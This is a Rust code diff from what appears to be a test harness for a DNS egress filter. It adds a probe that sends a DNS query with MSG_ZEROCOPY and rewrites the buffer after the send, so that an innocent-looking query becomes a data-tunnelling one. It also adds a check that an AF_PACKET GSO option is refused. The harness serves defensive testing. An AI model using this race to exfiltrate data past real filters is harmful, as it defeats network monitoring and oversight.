@@ -58,6 +58,8 @@ const VPN_DST: Ipv4Addr = Ipv4Addr::new(10, 66, 0, 2);
 const VPN_PORT: u16 = 51820;
 /// `linux/if_packet.h` (not in the libc crate).
 const PACKET_QDISC_BYPASS: libc::c_int = 20;
+/// `linux/if_packet.h`: a virtio-net header before each frame (GSO requests).
+const PACKET_VNET_HDR: libc::c_int = 15;
 const B32: &[u8] = b"abcdefghijklmnopqrstuvwxyz234567";
 
 type ProbeFn = fn(&World, &mut Probe, &mut StdRng);
@@ -65,7 +67,7 @@ type ProbeFn = fn(&World, &mut Probe, &mut StdRng);
 /// (slug, what the probe tries, probe). The slug names the probe's zone and control names
 /// (at most 9 letters: control names stay plain). Probe 12 (`case`) follows them with an agent
 /// session of its own (`letter_case`).
-const PROBES: [(&str, &str, ProbeFn); 13] = [
+const PROBES: [(&str, &str, ProbeFn); 14] = [
     (
         "baseline",
         "baseline: tunnel queries on plain UDP/53 (no evasion)",
@@ -98,6 +100,11 @@ const PROBES: [(&str, &str, ProbeFn); 13] = [
         "altport",
         "DNS over TCP to a resolver on another port, cut anywhere",
         tcp_other_port,
+    ),
+    (
+        "zerocopy",
+        "a query in pages the sender rewrites (MSG_ZEROCOPY)",
+        zerocopy,
     ),
 ];
 const CASE: (&str, &str) = ("case", "letter-case variants of an allowed name");
@@ -434,6 +441,62 @@ fn tcp_other_port(w: &World, p: &mut Probe, rng: &mut StdRng) {
     }
     stop.store(true, Ordering::Relaxed);
     let _ = drain.join();
+}
+
+/// Probe 14: MSG_ZEROCOPY: the datagram's pages stay the sender's, so what the kernel judged
+/// can be rewritten before the device (or the peer) reads it. Attack: plain-looking queries
+/// sent zero-copy, each buffer overwritten with a tunnel query of the same length as soon as
+/// the send returns. Both the plain name (what was judged) and the tunnel label (what a won
+/// race delivers) count as arrived secrets. Control: the same kind of query, copied.
+fn zerocopy(w: &World, p: &mut Probe, rng: &mut StdRng) {
+    let s = w.udp4();
+    plain_control(p, &s, rng);
+    let on: libc::c_int = 1;
+    if let Err(e) = setsockopt(&s, libc::SOL_SOCKET, libc::SO_ZEROCOPY, &on) {
+        p.problems.push(format!(
+            "SO_ZEROCOPY refused: {e}: the probe proves nothing"
+        ));
+        return;
+    }
+    s.connect((SERVER, 53)).expect("connect");
+    for _ in 0..4 {
+        let short = b32(rng, 8);
+        let plain_name = format!("{short}.{}", p.zone());
+        let (label, tunnel) = p.tunnel(rng);
+        let mut buf = query(rng.random(), &plain_name);
+        let evil = query(rng.random(), &tunnel);
+        // SAFETY: send(2) on a connected socket from a live buffer of its length.
+        let n = unsafe {
+            libc::send(
+                s.as_raw_fd(),
+                buf.as_ptr().cast(),
+                buf.len(),
+                libc::MSG_ZEROCOPY,
+            )
+        };
+        let r = if n < 0 {
+            Err(io::Error::last_os_error())
+        } else {
+            Ok(())
+        };
+        // the race: the pages still belong to this process
+        let k = buf.len().min(evil.len());
+        buf[..k].copy_from_slice(&evil[..k]);
+        p.secret_sent(
+            "plain query sent zero-copy (judged, then rewritable)",
+            &short,
+            &plain_name,
+            sent(r.as_ref().map(|_| ()).map_err(again)),
+        );
+        p.secret(
+            "tunnel bytes written into the zero-copy buffer after the send",
+            &label,
+            &tunnel,
+            r,
+        );
+        pause(50);
+        drop(buf);
+    }
 }
 
 /// Accepts and reads every connection until `stop` (what arrived is judged from the capture).
@@ -944,6 +1007,20 @@ fn af_packet(w: &World, p: &mut Probe, rng: &mut StdRng) {
             &name,
             r,
         );
+    }
+    // a virtio-net header lets AF_PACKET hand tc one GSO super-packet whose segments it has
+    // not counted yet: refused like the bypass
+    let vnet = in_netns(&w.ns(), move || {
+        let fd = packet_socket(ifindex)?;
+        setsockopt(&fd, libc::SOL_PACKET, PACKET_VNET_HDR, &1)
+    });
+    match vnet {
+        Ok(()) => p
+            .problems
+            .push("setsockopt(PACKET_VNET_HDR) accepted: AF_PACKET GSO sends are open".into()),
+        Err(e) => p
+            .notes
+            .push(format!("setsockopt(PACKET_VNET_HDR) refused: {e}")),
     }
     let bypass = in_netns(&w.ns(), move || {
         let fd = packet_socket(ifindex)?;
